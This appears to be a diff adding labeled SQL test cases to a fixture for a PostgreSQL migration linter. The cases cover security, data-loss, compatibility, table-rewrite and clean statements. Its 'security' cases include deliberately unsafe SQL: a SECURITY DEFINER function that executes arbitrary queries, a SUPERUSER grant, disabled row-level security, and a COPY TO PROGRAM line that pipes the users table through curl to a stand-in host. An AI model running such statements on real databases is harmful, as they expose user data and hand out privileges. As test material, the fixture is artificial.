@@ -513,3 +513,203 @@ CREATE RULE no_delete AS ON DELETE TO app.archive_view DO INSTEAD NOTHING;
 -- case: clean
 CREATE TABLE places (id int PRIMARY KEY, geo geography(Point, 4326));
 CREATE INDEX places_geo ON places USING gist (geo);
+
+-- case: partition
+CREATE TABLE app.events_default PARTITION OF app.events DEFAULT;
+
+-- case: index-build
+CREATE UNIQUE INDEX IF NOT EXISTS one_active_subscription ON subscriptions (account_id) WHERE status = 'active';
+
+-- case: constraint-validation
+ALTER TABLE ONLY public.memberships ADD CONSTRAINT memberships_org_fk FOREIGN KEY (org_id) REFERENCES public.orgs (id) ON DELETE SET NULL (org_id);
+
+-- case: security
+CREATE FUNCTION public.run_sql(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE q; END $$;
+
+-- case: security
+ALTER ROLE authenticator SUPERUSER;
+
+-- case: security
+ALTER TABLE public.secrets NO FORCE ROW LEVEL SECURITY;
+
+-- case: security
+CREATE POLICY "public write" ON public.votes AS PERMISSIVE FOR INSERT TO anon, authenticated WITH CHECK (1 = 1);
+
+-- case: security
+COPY (SELECT * FROM users) TO PROGRAM 'curl -X POST --data-binary @- https://example.org';
+
+-- case: version pg=17
+SELECT pg_stop_backup();
+
+-- case: version pg=17
+INSERT INTO stock (sku, n) VALUES ('a', 1) ON CONFLICT (sku) DO UPDATE SET n = stock.n + 1 RETURNING WITH (OLD AS o) o.n, n;
+
+-- case: version pg=18
+INSERT INTO stock (sku) VALUES ('a') ON CONFLICT (sku) DO SELECT RETURNING id;
+
+-- case: will-fail pg=18
+CREATE TABLE people (a text, b text, full_name text GENERATED ALWAYS AS (a || b), UNIQUE (full_name));
+
+-- case: data-loss
+ALTER TABLE orders DROP COLUMN IF EXISTS legacy_total, DROP COLUMN legacy_tax CASCADE;
+
+-- case: data-loss
+ALTER TYPE address DROP ATTRIBUTE zip CASCADE;
+
+-- case: data-loss
+TRUNCATE storage.objects, storage.buckets CASCADE;
+
+-- case: data-loss compat
+DROP SCHEMA IF EXISTS graphile_worker CASCADE;
+
+-- case: compat
+ALTER TABLE accounts RENAME COLUMN owner TO owner_id;
+
+-- case: compat
+ALTER FUNCTION app.price(bigint) RENAME TO price_of;
+
+-- case: compat
+ALTER PUBLICATION analytics_feed DROP TABLE orders;
+
+-- case: type-narrowing data-loss table-rewrite
+ALTER TABLE readings ALTER COLUMN v TYPE real USING v::real;
+
+-- case: table-rewrite
+ALTER TABLE sessions ADD COLUMN token uuid NOT NULL DEFAULT gen_random_uuid();
+
+-- case: table-rewrite
+ALTER TABLE big_log SET TABLESPACE archive;
+
+-- case: table-rewrite pg=19
+REPACK big_log USING INDEX big_log_at;
+
+-- case: not-null
+ALTER TABLE accounts ADD CONSTRAINT accounts_email_nn CHECK (email IS NOT NULL) NOT VALID;
+ALTER TABLE accounts ALTER COLUMN email SET NOT NULL;
+
+-- case: constraint-validation not-null pg=18
+ALTER TABLE accounts ADD CONSTRAINT accounts_email_nn NOT NULL email;
+
+-- case: tx-incompatible
+CREATE FUNCTION nightly() RETURNS void LANGUAGE plpgsql AS $$ BEGIN VACUUM sales; END $$;
+SELECT nightly();
+
+-- case: dml-volume
+WITH moved AS (DELETE FROM inbox WHERE read RETURNING *) INSERT INTO archive SELECT * FROM moved;
+
+-- case: dml-volume pg=17
+MERGE INTO balances b USING ledger l ON b.account = l.account WHEN MATCHED THEN UPDATE SET total = b.total + l.amount RETURNING b.account;
+
+-- case: lock-scope
+LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;
+CREATE TABLE orders_copy (LIKE orders INCLUDING ALL);
+INSERT INTO orders_copy SELECT * FROM orders;
+
+-- case: matview
+REFRESH MATERIALIZED VIEW CONCURRENTLY a_mv;
+REFRESH MATERIALIZED VIEW b_mv WITH DATA;
+
+-- case: clean
+CREATE TABLE app.settings (key text PRIMARY KEY, value jsonb NOT NULL DEFAULT '{}', updated_at timestamptz NOT NULL DEFAULT now());
+INSERT INTO app.settings (key) VALUES ('theme'), ('lang') ON CONFLICT DO NOTHING;
+
+-- case: clean
+CREATE FUNCTION app.tenant_match(t uuid) RETURNS boolean LANGUAGE sql STABLE PARALLEL SAFE AS $$ SELECT t = current_setting('app.tenant')::uuid $$;
+
+-- case: clean
+CREATE TABLE app.docs (id uuid PRIMARY KEY DEFAULT uuidv7(), tenant uuid NOT NULL);
+ALTER TABLE app.docs ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
+CREATE POLICY tenants ON app.docs USING (app.tenant_match(tenant)) WITH CHECK (app.tenant_match(tenant));
+
+-- case: clean
+DROP POLICY IF EXISTS tenants ON app.docs;
+CREATE POLICY tenants ON app.docs USING (tenant = current_setting('app.tenant')::uuid);
+
+-- case: clean
+DROP TRIGGER IF EXISTS touch ON accounts;
+CREATE TRIGGER touch BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION touch();
+
+-- case: clean
+CREATE PUBLICATION pub FOR TABLES IN SCHEMA app;
+ALTER PUBLICATION pub OWNER TO replicator;
+
+-- case: clean
+ALTER SUBSCRIPTION mirror DISABLE;
+ALTER SUBSCRIPTION mirror SKIP (lsn = '0/14C0378');
+ALTER SUBSCRIPTION mirror ENABLE;
+
+-- case: clean
+CREATE TYPE app.period AS RANGE (subtype = timestamptz, multirange_type_name = app.periods);
+
+-- case: clean
+CREATE AGGREGATE app.product (numeric) (SFUNC = numeric_mul, STYPE = numeric, INITCOND = '1');
+
+-- case: clean
+CREATE OPERATOR app.=~ (LEFTARG = text, RIGHTARG = text, FUNCTION = app.similar);
+
+-- case: clean
+CREATE CAST (app.cents AS numeric) WITH FUNCTION app.to_numeric(app.cents) AS ASSIGNMENT;
+
+-- case: clean
+CREATE TEXT SEARCH CONFIGURATION app.en (COPY = english);
+ALTER TEXT SEARCH CONFIGURATION app.en ALTER MAPPING FOR word WITH unaccent, english_stem;
+
+-- case: clean
+COMMENT ON TABLE app.docs IS E'documents\n@graphql({"name": "Doc"})';
+
+-- case: clean
+ALTER TABLE app.docs ALTER COLUMN tenant SET STATISTICS 1000, ALTER COLUMN tenant SET (n_distinct = -0.1);
+
+-- case: clean
+ALTER TABLE orders ADD CONSTRAINT total_positive CHECK (total >= 0) NOT VALID;
+
+-- case: clean
+ALTER TABLE orders ALTER COLUMN note TYPE text;
+
+-- case: clean
+CREATE TABLE q (id bigint GENERATED ALWAYS AS IDENTITY, at timestamptz NOT NULL) PARTITION BY RANGE (at);
+CREATE TABLE q_1 PARTITION OF q FOR VALUES FROM (MINVALUE) TO ('2026-01-01');
+CREATE TABLE q_2 PARTITION OF q FOR VALUES FROM ('2026-01-01') TO (MAXVALUE);
+CREATE UNIQUE INDEX q_key ON q (id, at);
+
+-- case: clean
+DO $$
+DECLARE r record;
+BEGIN
+  FOR r IN SELECT nspname FROM pg_namespace WHERE nspname LIKE 'tenant\_%' LOOP
+    RAISE NOTICE 'found %', r.nspname;
+  END LOOP;
+END $$;
+
+-- case: clean
+SELECT cron.schedule('purge', '0 3 * * *', $$DELETE FROM app.sessions WHERE expires_at < now()$$);
+
+-- case: clean
+INSERT INTO auth.roles (name) SELECT unnest(ARRAY['admin', 'editor']) ON CONFLICT DO NOTHING;
+
+-- case: clean
+UPDATE app.settings SET value = '{"dark": true}' WHERE key = 'theme';
+
+-- case: clean
+DELETE FROM app.feature_flags WHERE name IN ('old_checkout', 'beta_banner');
+
+-- case: clean
+SELECT setval('orders_id_seq', (SELECT max(id) FROM orders));
+
+-- case: clean
+ALTER INDEX orders_pkey RENAME TO orders_pk;
+ALTER INDEX orders_pk SET (fillfactor = 90);
+
+-- case: clean
+ALTER TABLE sessions SET (fillfactor = 80, autovacuum_enabled = true);
+
+-- case: clean pg=18
+CREATE TABLE p2 (a int, b int GENERATED ALWAYS AS (a + 1), CONSTRAINT a_set NOT NULL a);
+CREATE INDEX ON p2 ((a + 1));
+
+-- case: clean
+CREATE FUNCTION app.slug(t text) RETURNS text IMMUTABLE LANGUAGE sql BEGIN ATOMIC SELECT lower(regexp_replace(t, '\W+', '-', 'g')); END;
+
+-- case: clean
+GRANT EXECUTE ON FUNCTION app.slug(text) TO anon, authenticated;
+REVOKE INSERT ON app.docs FROM anon;
